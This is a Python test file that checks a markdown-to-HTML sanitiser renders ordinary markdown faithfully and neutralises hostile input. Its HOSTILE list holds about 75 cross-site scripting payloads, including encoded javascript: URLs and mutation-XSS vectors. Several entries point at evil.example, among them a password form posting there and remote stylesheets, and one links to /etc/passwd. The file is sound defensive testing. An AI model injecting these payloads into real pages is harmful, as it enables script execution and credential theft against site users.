"""Markdown from anybody becomes HTML that can do no harm, and still looks like what it says."""

from __future__ import annotations

import itertools
import random
import re
import sys
from html.parser import HTMLParser
from typing import Any

import pytest

from asyncflow.errors import MissingExtra
from asyncflow.server import markdown
from asyncflow.server.markdown import safe_html

PICTURE = "data:image/png;base64,iVBORw0KGgo="


class Found(HTMLParser):
    """Every tag and attribute, as a browser would see them."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str, str | None]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: Any) -> None:
        self.tags.append(tag)
        self.attributes += [(tag, name, value) for name, value in attrs]

    def handle_comment(self, data: str) -> None:
        raise AssertionError(f"a comment: {data!r}")

    def handle_decl(self, decl: str) -> None:
        raise AssertionError(f"a declaration: {decl!r}")

    handle_pi = unknown_decl = handle_decl


def check(html: str) -> Found:
    """What may be in it, and nothing else."""
    found = Found(html)
    assert set(found.tags) <= markdown.TAGS
    for tag, name, value in found.attributes:
        assert not name.startswith("on")
        assert name in {"href", "title", "src", "alt", "start", "rel", "target"}, (tag, name)
        told = (value or "").strip().lower()
        if name == "href":
            assert told.startswith(("http://", "https://", "mailto:"))
            assert ("a", "rel", "noopener noreferrer nofollow") in found.attributes
        if name == "src":
            assert re.fullmatch(r"data:image/(png|jpeg|gif|webp);base64,[\w+/]+=*", value or "")
    return found


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("# Hello\n\n*a* **b** `c`", "<h1>Hello</h1>\n<p><em>a</em> <strong>b</strong> <code>c"),
        ("| a |\n|---|\n| ~~1~~ |", "<td><s>1</s></td>"),
        ("- one\n- two", "<ul>\n<li>one</li>"),
        ("7. one", '<ol start="7">'),
        ("```python\n1 < 2\n```", "<pre><code>1 &lt; 2\n</code></pre>"),
        ("> said", "<blockquote>\n<p>said</p>"),
        ('[a](https://x.org/?b=c&d "T")', '<a href="https://x.org/?b=c&amp;d" title="T"'),
        ("<https://x.org>", 'href="https://x.org"'),
        ("[m](mailto:a@x.org)", 'href="mailto:a@x.org"'),
        (f"![alt]({PICTURE})", f'<img src="{PICTURE}" alt="alt">'),
        ("äöü 🦊 & <", "äöü 🦊 &amp; &lt;"),
        ("", ""),
    ],
)
def test_what_is_meant_is_shown(text: str, html: str) -> None:
    shown = safe_html(text)
    assert html in shown
    check(shown)


HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext></table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<style>@import 'https://evil.example'</style>",
    "<link rel=stylesheet href=https://evil.example>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example>",
    "<form action=https://evil.example><input name=password></form>",
    "<object data=x></object><embed src=x>",
    "<details open ontoggle=alert(1)>",
    "<div style='position:fixed;inset:0'>over everything</div>",
    "<!-- --><script>alert(1)</script>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?php x ?>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<x onclick=alert(1)>",
    "<SCRIPT SRC=//evil.example></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](java&#10;script:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x]( \x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](data:image/svg+xml;base64,PHN2Zz4=)",
    f"[x]({PICTURE})",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](/api/runs)",
    "[x](#there)",
    "[x](https:evil)",
    "[x](https://a.org\"onmouseover=alert(1))",
    "[x](https://a.org 'x\" onmouseover=alert(1) y=\"')",
    "[x](https://a.org \"'><img src=x onerror=alert(1)>\")",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "[r]\n\n[r]: <javascript:alert(1)> 'x'",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "![x](https://evil.example/pixel.png)",
    "![x](//evil.example/pixel.png)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "![x](data:text/html;base64,PHN2Zz4=)",
    f"![x\" onerror=\"alert(1)]({PICTURE})",
    f"![<img src=x onerror=alert(1)>]({PICTURE})",
    f"![x]({PICTURE}\"onerror=alert(1))",
    "![x](data:image/png;base64,iVBORw0KGgo=,<svg>)",
    "`<script>`alert(1)`</script>`",
    "```\"onmouseover=alert(1)\nx\n```",
    "```<script>\nalert(1)\n```",
    "# <img src=x onerror=alert(1)>",
    "| <img src=x onerror=alert(1)> |\n|---|\n| <svg onload=alert(1)> |",
    "- <script>alert(1)</script>\n  > <iframe>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\<script>alert(1)</script>",
    "<https://a.org/<script>>",
    "[![x](javascript:alert(1))](javascript:alert(2))",
    "\ud800<script>\udfff",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
    "a\u202e<script>",
    "1000000000000. x",
]  # fmt: skip


@pytest.mark.parametrize("text", HOSTILE)
def test_a_hostile_text_does_nothing(text: str) -> None:
    check(safe_html(text))


@pytest.mark.parametrize("text", [t for t in HOSTILE if "(https://a.org" not in t])
def test_a_hostile_text_leads_nowhere_and_loads_nothing(text: str) -> None:
    names = {name for _, name, _ in check(safe_html(text)).attributes}
    assert "href" not in names or "a.org" in text
    assert "src" not in names or PICTURE in text


def test_the_allow_list_alone_lets_nothing_through(monkeypatch: pytest.MonkeyPatch) -> None:
    _, clean = markdown._tools()
    for text in HOSTILE:
        if not text.startswith("\ud800"):
            check(clean(text))
    check(clean('<a href="javascript:alert(1)">x</a><a href="data:text/html,x">y</a>'))
    check(clean('<img src="https://x/y.png"><p src="x" id="y" class="z" style="a:b">t</p>'))
    assert "alert" not in clean("<script>alert(1)</script>")


def test_the_parser_alone_makes_no_tag_of_the_text() -> None:
    render, _ = markdown._tools()
    for text in HOSTILE:
        assert set(Found(render(text)).tags) <= markdown.TAGS


@pytest.mark.parametrize("seed", range(4))
def test_pieces_of_hostile_texts_in_any_order_do_nothing(seed: int) -> None:
    dice = random.Random(seed)
    glue = ["", " ", "\n", "\n\n", "> ", "- ", "| ", "`", "**", "[", "](", ")", "<", ">", "&", '"']
    for _ in range(150):
        pieces = dice.choices(HOSTILE, k=4)
        cut = [piece[dice.randrange(len(piece)) :] if dice.random() < 0.3 else piece
               for piece in pieces]  # fmt: skip
        text = "".join(itertools.chain(*zip(cut, dice.choices(glue, k=4), strict=True)))
        check(safe_html(text))


def test_texts_that_would_take_long_are_cut_or_shown_as_they_are() -> None:
    assert safe_html("[" * 5000 + "<b>") == f"<pre>{'[' * 5000}&lt;b&gt;</pre>"
    assert len(safe_html("x" * 200_000)) < 100_000
    assert "<blockquote>" in safe_html("> " * 5000 + "deep")


def test_without_the_extra_the_error_names_it(monkeypatch: pytest.MonkeyPatch) -> None:
    markdown._tools.cache_clear()
    monkeypatch.setitem(sys.modules, "nh3", None)
    try:
        with pytest.raises(MissingExtra, match=r"asyncflow\[dashboard\]"):
            safe_html("x")
    finally:
        markdown._tools.cache_clear()
